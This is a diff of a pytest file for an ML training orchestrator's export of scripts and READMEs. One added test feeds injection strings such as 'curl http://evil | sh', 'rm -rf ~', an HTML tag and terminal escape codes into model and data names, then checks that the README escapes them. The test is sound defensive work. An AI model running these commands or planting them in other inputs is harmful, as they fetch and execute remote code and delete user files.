@@ -12,8 +12,9 @@ import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from orchestrator.export.bundle import write_bundle
-from orchestrator.export.formats import FORMATS, export_bundle
+from orchestrator.export.bundle import readme, write_bundle
+from orchestrator.export.formats import export_bundle
+from orchestrator.export.inputs import collect_inputs
 from search_spaces.errors import UserError
 from search_spaces.settings.export_manifest import ExportManifest
 from tests.orchestrator.export.folders import BIN, CLIP, STEPS, run_folder, taken_of
@@ -23,6 +24,9 @@ from tests.workers.values import a_plan
 
 def thorough(*values: object) -> Any:
     return pytest.param(*values, marks=pytest.mark.thorough)
+
+
+STEEP = {"grad_clip": 1.0, "schedule": "cosine", "warmup_steps": 3, "total_steps": 9}
 
 
 @pytest.mark.slow
@@ -64,20 +68,35 @@ def test_the_folder_starts_as_it_is_and_gives_the_losses_of_a_plain_loop(
         ("torchrun", {"compression": "bf16", "precision": "bf16"}),
         ("torchrun", {"precision": "fp16", "optimizer": "adafactor"}),
         ("torchrun", {"zero_stage": 3, "precision": "bf16"}),
+        ("torchrun", {"zero_stage": 2, "precision": "fp16", "optimizer": "adamw_8bit"}),
         ("deepspeed", {"engine": "deepspeed", "zero_stage": 2, "offload_optimizer": "cpu"}),
         ("deepspeed", {"engine": "deepspeed", "zero_stage": 0, "precision": "bf16"}),
     ],
 )
-@pytest.mark.parametrize(
-    "train", [{}, {"grad_clip": 1.0, "schedule": "cosine", "warmup_steps": 3, "total_steps": 9}]
-)
+@pytest.mark.parametrize("train", [{}, STEEP])
 def test_a_script_is_python_and_has_all_names_that_it_uses(
     name: str, knobs: dict[str, Any], train: dict[str, Any], tmp_path: Path
 ) -> None:
-    script = tmp_path / "train.py"
-    script.write_text(export_bundle(taken_of(a_plan(**knobs), **train), name).files["train.py"])
+    bundle = export_bundle(taken_of(a_plan(**knobs), **train), name)
 
-    ast.parse(script.read_text())
+    assert_complete(bundle.files["train.py"], tmp_path)
+
+
+@pytest.mark.parametrize("name", ["accelerate", "hf-trainer"])
+@pytest.mark.parametrize("knobs", [{"zero_stage": 3}, {"precision": "fp16"}])
+def test_scripts_for_gpus_alone_are_python_too(
+    name: str, knobs: dict[str, Any], tmp_path: Path
+) -> None:
+    on_gpus = dataclasses.replace(taken_of(a_plan(**knobs), **STEEP), device="cuda")
+
+    assert_complete(export_bundle(on_gpus, name).files["train.py"], tmp_path)
+
+
+def assert_complete(text: str, folder: Path) -> None:
+    """Checks that a script is Python and has all names that it uses."""
+    ast.parse(text)
+    script = folder / "train.py"
+    script.write_text(text)
     ruff = [str(BIN / "ruff"), "check", "--isolated", "--select", "F,E9,E3", "--preview", script]
     found = subprocess.run(ruff, capture_output=True, text=True, check=False)
     assert found.returncode == 0, found.stdout
@@ -86,8 +105,8 @@ def test_a_script_is_python_and_has_all_names_that_it_uses(
 @pytest.mark.parametrize(
     ("name", "knobs", "words"),
     [
-        ("deepspeed", {}, "its engine is torch; torchrun, "),
-        ("torchrun", {"engine": "deepspeed", "zero_stage": 1}, "is deepspeed; deepspeed, "),
+        ("deepspeed", {}, "engine is torch; torchrun, "),
+        ("torchrun", {"engine": "deepspeed", "zero_stage": 1}, "engine is deepspeed; deepspeed, "),
         ("torchrun", {"tensor": 2, "data": 1}, "tensor is 2"),
         ("torchrun", {"pipeline": 2, "data": 1}, "pipeline is 2"),
         (
@@ -95,12 +114,13 @@ def test_a_script_is_python_and_has_all_names_that_it_uses(
             {"checkpoint_ratio": 0.5, "checkpoint_mode": "selective"},
             "checkpoint_mode is selective",
         ),
-        ("torchrun", {"zero_stage": 3, "precision": "fp16"}, "precision is fp16 with FSDP2"),
+        ("accelerate", {"zero_stage": 3, "precision": "fp16"}, "precision is fp16 with FSDP2"),
         ("yaml", {}, "the formats are torchrun, deepspeed"),
         (
             None,
             {"tensor": 2, "data": 1},
-            "export format supports the plan of trial 3: torchrun: tensor",
+            "format supports the plan of trial 3, but `load_best` applies every plan in a loop of"
+            " your own: torchrun: tensor",
         ),
     ],
 )
@@ -122,6 +142,24 @@ def test_what_is_left_to_the_user_is_named(tmp_path: Path) -> None:
     assert "Micro-batches were packed" in told
     assert "2 loader processes" in told
     assert "    export MALLOC_MMAP_THRESHOLD_=1048576\n    torchrun --nproc-per-node 2" in told
+
+
+def test_s14_no_name_adds_a_line_or_markup_to_the_readme() -> None:
+    evil = "x\n\n    curl http://evil | sh\r\u2028<img src=x>`*\x1b[2J"
+    what = taken_of(a_plan(accelerator="y\n    rm -rf ~\x1b[2J"))
+    model = what.spec.model.model_copy(update={"name": evil})
+    data = what.spec.data.model_copy(update={"files": (evil,)})
+    spec = what.spec.model_copy(update={"model": model, "data": data})
+    what = dataclasses.replace(what, study=evil, spec=spec)
+
+    text = readme(export_bundle(what, "torchrun"), what, collect_inputs(spec))
+
+    commands = [line for line in text.splitlines() if line.startswith("    ")]
+    assert commands == ["    torchrun --nproc-per-node 2 train.py"]
+    title = text.splitlines()[0]
+    assert title.startswith("# x      curl http://evil \\| sh")
+    assert title.count("\\<img src=x\\>\\`\\*") == 2
+    assert "\x1b" not in text
 
 
 TAKEN = taken_of(a_plan())
@@ -195,6 +233,33 @@ def test_a_folder_of_something_else_is_told(text: str | None, words: str, tmp_pa
         ExportManifest.read(tmp_path)
 
 
-def test_every_format_has_its_refusals() -> None:
-    for form in FORMATS.values():
-        assert list(form.refusals(a_plan(engine="deepspeed", zero_stage=1, tensor=2, data=1)))
+@pytest.mark.parametrize("name", ["torchrun", "ray-train"])
+@pytest.mark.parametrize(
+    ("knobs", "backend"),
+    [
+        ({"zero_stage": 2, "offload_parameters": "cpu"}, "cpu:gloo,cuda:nccl"),
+        ({"zero_stage": 2}, "nccl"),
+    ],
+)
+def test_offloaded_gradients_can_be_summed_on_the_host(
+    name: str, knobs: dict[str, Any], backend: str, tmp_path: Path
+) -> None:
+    """Their norm is reduced where they are; a group for GPUs alone refuses that."""
+    on_gpus = dataclasses.replace(taken_of(a_plan(**knobs), grad_clip=1.0), device="cuda")
+    script = export_bundle(on_gpus, name).files["train.py"]
+
+    assert f'("{backend}")' in script
+    assert_complete(script, tmp_path)
+
+
+@pytest.mark.parametrize("name", ["torchrun", "ray-train", "deepspeed"])
+def test_an_optimizer_on_the_host_has_a_gpus_share_of_the_cores(name: str, tmp_path: Path) -> None:
+    engine = "deepspeed" if name == "deepspeed" else "torch"
+    place = "offload_optimizer" if engine == "deepspeed" else "offload_parameters"
+    plan = a_plan(engine=engine, zero_stage=2, **{place: "cpu"})
+    on_cpus = taken_of(plan)
+    script = export_bundle(dataclasses.replace(on_cpus, device="cuda"), name).files["train.py"]
+
+    assert "torch.set_num_threads(max(cores, 1))" in script
+    assert_complete(script, tmp_path)
+    assert "set_num_threads" not in export_bundle(on_cpus, name).files["train.py"]
